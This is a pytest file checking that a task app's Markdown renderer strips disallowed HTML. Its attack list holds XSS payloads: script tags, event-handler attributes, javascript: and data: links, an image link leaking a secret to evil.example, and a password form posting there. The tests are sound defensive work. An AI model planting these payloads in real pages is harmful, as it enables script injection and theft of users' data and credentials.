"""What people, agents and Git write, as HTML: an allow-list, whatever they try."""

import re

import pytest

from apps.tasks.markdown import to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?d=secret)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "<a href='vbscript:x'>x</a>",
    '<div style="position:fixed" id="board" class="card">x</div>',
    "<svg><script>1</script></svg>",
    "<iframe src=//evil.example></iframe>",
    "<javascript:alert(1)>",
    "![ref][r]\n\n[r]: https://evil.example/p.png",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "| a |\n|:-:|\n| <b onclick=x>b</b> |",
    "<form action=//evil.example><input name=password></form>",
]


@pytest.mark.req("X1", "X2", "G2")
@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_allows_listed_html_only(attack):
    html = to_html(attack)
    tags = set(re.findall(r"<([a-z0-9]+)", html))
    assert not tags & {"script", "img", "iframe", "svg", "form", "div", "style", "object"}
    assert not re.search(r"<[^>]+ (?:style|id|class|on\w+|src)=", html)
    assert not re.search(r'href="(?!https?:|mailto:)', html)


def test_markdown_links_send_no_referrer():
    assert 'rel="noopener noreferrer nofollow"' in to_html("https://example.org")


def test_markdown_task_list_keeps_its_boxes():
    html = to_html("- [x] done\n- [ ] open")
    assert html.count('type="checkbox"') == 2
    assert "disabled" in html
